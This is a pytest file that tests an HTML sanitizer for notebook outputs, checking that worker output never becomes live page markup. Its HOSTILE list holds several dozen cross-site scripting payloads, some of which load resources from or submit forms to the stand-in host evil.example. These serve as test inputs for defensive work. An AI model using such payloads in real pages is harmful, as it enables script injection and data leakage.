"""What a worker sent is text, a picture, or walled off: nothing of it becomes markup of the page."""

from __future__ import annotations

import base64
import re
from html import unescape
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codalab_nb.frontends.rendering import interactive, output_html

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode()
TAGS = {"p", "pre", "figure", "img", "div", "table", "thead", "tbody", "tr", "th", "td", "iframe", "span", "br", "hr",
        "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "code", "strong", "em"}  # fmt: skip
ATTRIBUTES = {"class", "alt", "width", "src", "sandbox", "referrerpolicy", "title", "style", "srcdoc", "start"}

# The sixteen of nbconvert's CVE-2021-32862, those of the Jupyter front ends since, and what only a frame must survive.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><image href='https://evil.example/x.png'/></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<form action=https://evil.example><input name=a value=b autofocus onfocus=this.form.submit()></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.example' ping='https://evil.example/p'>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/p)}</style>",
    "<div style='background:url(https://evil.example/p)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/p)'>x</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "</iframe><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<table background=https://evil.example/p><tr><td>x</td></tr></table>",
    "<video poster=https://evil.example/p src=https://evil.example/v></video>",
    "<audio src=https://evil.example/a autoplay>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<img srcset='https://evil.example/p 1x'>",
    "<x/onclick=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
]


class _Reader(HTMLParser):
    """What a browser would make of it, near enough: the elements of the page, and those in its frames."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.frames: list[_Reader] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "iframe":
            inner = _Reader()
            inner.feed(dict(attrs)["srcdoc"] or "")
            self.frames.append(inner)


def _read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    return reader


def _assert_harmless(html: str) -> None:
    page = _read(html)
    for tag, attributes in page.elements:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES, html
        assert (attributes.get("src") or "data:image/").startswith("data:image/")
        if tag == "iframe":
            assert attributes["sandbox"] == ""
    for frame in page.frames:
        # html, head, meta charset, the policy, style, body: the policy stands before anything of the worker's.
        policy = frame.elements[3][1]
        assert policy["http-equiv"] == "Content-Security-Policy"
        assert "default-src 'none'" in (policy["content"] or "")
        for tag, attributes in frame.elements[6:]:
            assert tag not in ("script", "iframe", "object", "embed", "link", "meta", "base", "form", "video", "audio")
            assert not any(name.startswith("on") for name in attributes), html
            for value in attributes.values():
                assert "evil" not in (value or ""), html
                assert "javascript:" not in (value or "").lower(), html


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("kind", ["text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml"])
def test_hostile_markup_never_becomes_markup_of_the_page(hostile: str, kind: str) -> None:
    for frames in (True, False):
        _assert_harmless(
            output_html({"output_type": "display_data", "data": {kind: hostile}, "metadata": {}}, frames=frames)
        )
        for line in (hostile, [hostile, hostile]):
            _assert_harmless(output_html({"output_type": "stream", "name": "stdout", "text": line}, frames=frames))
    error = {"output_type": "error", "ename": hostile, "evalue": hostile, "traceback": [hostile]}
    _assert_harmless(output_html(error, frames=True))


@given(st.text(max_size=300), st.sampled_from(["text/html", "text/markdown", "image/svg+xml", "text/plain"]))
def test_no_text_breaks_out(words: str, kind: str) -> None:
    """Whatever stands in an output, quotes and angle brackets in it end nothing of ours."""
    for piece in (words, f"<b title='{words}'>x", f"<style>{words}", f"<svg height='{words}'>"):
        _assert_harmless(
            output_html({"output_type": "display_data", "data": {kind: piece}, "metadata": {}}, frames=True)
        )


def test_pictures_are_taken_for_their_bytes_not_their_label() -> None:
    """A PNG is shown, with the words for those who cannot see it; HTML that says it is a PNG is not."""
    data = {"image/png": PNG, "text/plain": "<Figure size 640x480>"}
    told = {"image/png": {"alt": 'a "volcano" <plot>', "width": 400}}
    shown = output_html({"output_type": "display_data", "data": data, "metadata": told}, frames=True)
    (_, image) = _read(shown).elements[1]
    assert image == {"alt": 'a "volcano" <plot>', "width": "400", "src": f"data:image/png;base64,{PNG}"}
    fake = base64.b64encode(b"<script>alert(1)</script>").decode()
    output = {"output_type": "display_data", "data": {"image/png": fake, "text/plain": "no picture"}, "metadata": {}}
    assert output_html(output, frames=True) == '<pre class="output">no picture</pre>'


def test_a_table_of_pandas_is_written_anew() -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"gene": ["<b>A</b>", "B"], "t": [1.5, -2.25]})
    data = {"text/html": frame.to_html(), "text/plain": "…"}
    shown = output_html({"output_type": "execute_result", "data": data, "metadata": {}}, frames=True)
    assert "&lt;b&gt;A&lt;/b&gt;" in shown
    assert '<td class="number">-2.25</td>' in shown
    assert "iframe" not in shown


def test_other_html_stands_in_a_frame_as_high_as_its_text() -> None:
    low = output_html({"output_type": "display_data", "data": {"text/html": "<b>one line</b>"}}, frames=True)
    high = output_html({"output_type": "display_data", "data": {"text/html": "<p>line</p>" * 20}}, frames=True)
    heights = [int(re.search(r"height:(\d+)px", one)[1]) for one in (low, high)]  # type: ignore[index]
    assert heights[0] < 100 < heights[1] <= 640
    assert "<b>one line</b>" in unescape(low)


@pytest.mark.parametrize("source", ["<a ", '<a a="', "<!--", "<b a='", "</", "<![CDATA["])
def test_markup_that_never_ends_is_not_read_again_and_again(source: str) -> None:
    """A few kilobytes must not keep the kernel busy for minutes: from each `<` on, such a reader starts anew."""
    output = {"output_type": "display_data", "data": {"text/html": f"<b>seen</b>{source * 60_000}"}, "metadata": {}}
    assert "seen" in output_html(output, frames=True)


def test_a_small_text_does_not_become_a_large_page() -> None:
    """Rows of a Markdown table are filled up to its head: the head must not be made of nothing."""
    words = "|a" * 900 + "|\n" + "|-" * 900 + "|\n" + "|\n" * 6000
    output = {"output_type": "display_data", "data": {"text/markdown": words}, "metadata": {}}
    assert len(output_html(output, frames=True)) < 200_000
    ticks = "\n".join("a" + "`" * 1990 for _ in range(100))
    assert "`" in output_html({"output_type": "display_data", "data": {"text/markdown": ticks}}, frames=True)


def test_what_needs_scripts_says_so_and_falls_back_to_its_picture() -> None:
    """Plotly, Altair and widgets: the picture that came along, else a sentence with the reason, never the script."""
    plotly = {"application/vnd.plotly.v1+json": {"data": []}, "text/html": "<div></div><script>x</script>"}
    shown = output_html({"output_type": "display_data", "data": plotly}, frames=True)
    assert "Plotly" in shown
    assert "could act in your name" in shown
    assert interactive({"output_type": "display_data", "data": plotly}) == "Plotly"
    pictured = {**plotly, "image/png": PNG}
    assert "<img" in output_html({"output_type": "display_data", "data": pictured}, frames=True)
    assert interactive({"output_type": "display_data", "data": pictured}) is None
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "IntSlider(value=0)"}
    assert "IntSlider(value=0)" in output_html({"output_type": "display_data", "data": widget}, frames=True)


def test_a_report_is_no_interactive_output() -> None:
    """Tables and metrics of `codalab_nb.report` carry a type of their own, which is for programs."""
    data = {"application/vnd.codalab.report+json": {"metric": "m", "value": 1}, "text/plain": "m = 1"}
    assert output_html({"output_type": "display_data", "data": data}, frames=True) == '<pre class="output">m = 1</pre>'


def test_control_characters_are_spelled_out() -> None:
    """Nothing turns round or hides what stands in a file name or a log."""
    output = {"output_type": "stream", "name": "stdout", "text": "a\x1b]0;title\x07 \u202egnp.exe \x1b[31mred\x1b[0m"}
    assert output_html(output, frames=True) == '<pre class="output">a\\x1b]0;title\\x07 \\u202egnp.exe red</pre>'
